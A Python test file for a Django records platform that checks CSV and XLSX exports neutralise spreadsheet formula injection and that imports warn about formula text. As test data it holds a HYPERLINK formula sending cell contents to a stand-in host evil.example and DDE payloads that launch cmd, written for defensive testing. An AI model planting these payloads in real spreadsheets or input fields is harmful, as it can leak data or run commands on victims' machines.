"""Formula injection (issue 9, "Abuse and bad input"): text an officer or a stranger typed must never
run as a formula in the spreadsheets the platform hands out, and imports point such cells out."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from gongkai.accounts.policies import COMMAND_LINE
from gongkai.catalog.models import CatalogItem
from gongkai.core.audit import record_event
from gongkai.core.models import AuditEvent
from gongkai.exchange import audit_log, entries_table
from gongkai.exchange.catalog_export import export_catalog
from gongkai.exchange.catalog_import import catalog_import
from gongkai.exchange.cells import FORMULA_START, neutralise, text_of_csv_cell

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.fixture
def world(records_world):
    return records_world


@pytest.mark.parametrize("start", FORMULA_START)
def test_every_formula_start_is_neutralised(start):
    value = start + "1+cmd|' /C calc'!A0"
    assert neutralise(value) == "'" + value and text_of_csv_cell(neutralise(value)) == value
    assert neutralise("普通文字") == "普通文字" and neutralise(12) == 12


def _no_formula_cells(workbook) -> list:
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_public_catalog_downloads_carry_no_live_formula(client, portal):
    # The attacker: an officer names an item with a formula, the catalog is published, a citizen downloads.
    item = portal["items"][0]
    CatalogItem.objects.filter(pk=item.pk).update(name=EVIL, topic="+1+2", subject="@SUM(1)",
                                                  time_limit="-2+3")
    code = portal["county"].code
    data = client.get(f"/j/{code}/catalog.csv").content
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + EVIL in cells and "'+1+2" in cells and "'@SUM(1)" in cells and "'-2+3" in cells
    assert not any(c.startswith(FORMULA_START) for c in cells)
    workbook = load_workbook(io.BytesIO(client.get(f"/j/{code}/catalog.xlsx").content))
    texts = _no_formula_cells(workbook)
    assert EVIL in texts and "+1+2" in texts  # the exact text, stored as a string


def test_audit_export_keeps_a_login_name_formula_as_text(db):
    record_event(actor_name="=cmd|' /C calc'!A0", action="login.failed", data={"reason": "unknown_user"})
    events = AuditEvent.objects.all()
    xlsx = load_workbook(io.BytesIO(audit_log.xlsx_bytes(events, str)))
    assert "=cmd|' /C calc'!A0" in _no_formula_cells(xlsx)
    lines = "".join(audit_log.csv_lines(events, str))
    assert "'=cmd|' /C calc'!A0" in lines


def test_catalog_import_warns_about_formula_text_and_round_trips(draft, other_catalog):
    item = CatalogItem.objects.filter(version=draft).order_by("order").first()
    CatalogItem.objects.filter(pk=item.pk).update(name="=1+2", subject="@某局")
    for fmt in ("xlsx", "csv"):
        data = export_catalog(draft, fmt)
        report = catalog_import(actor=COMMAND_LINE, version=other_catalog, file=io.BytesIO(data),
                                filename=f"目录.{fmt}", dry_run=True)
        assert report.errors == [], report.errors
        warnings = [str(w) for w in report.warnings]
        assert any("公式" in w for w in warnings), (fmt, warnings)
    report = catalog_import(actor=COMMAND_LINE, version=draft, file=io.BytesIO(export_catalog(draft, "csv")),
                            filename="目录.csv", dry_run=False)
    assert CatalogItem.objects.filter(version=draft, name="=1+2", subject="@某局").exists()


def test_entries_import_warns_and_export_stores_text(world):
    item = world.items.dibao
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["姓名", "身份证号", "家庭人口", "保障金额"])
    sheet.append(["（提示行）", None, None, None])
    sheet.append(["=HYPERLINK(\"x\")", None, 2, 300])
    sheet["A3"].data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = entries_table.entries_import_xlsx(actor=world.users.officer, item=item, data=buffer.getvalue(),
                                               unit=world.civil, dry_run=True)
    assert [str(w) for w in result.warnings] and "公式" in str(result.warnings[0])
    assert result.warnings[0].column == "A"
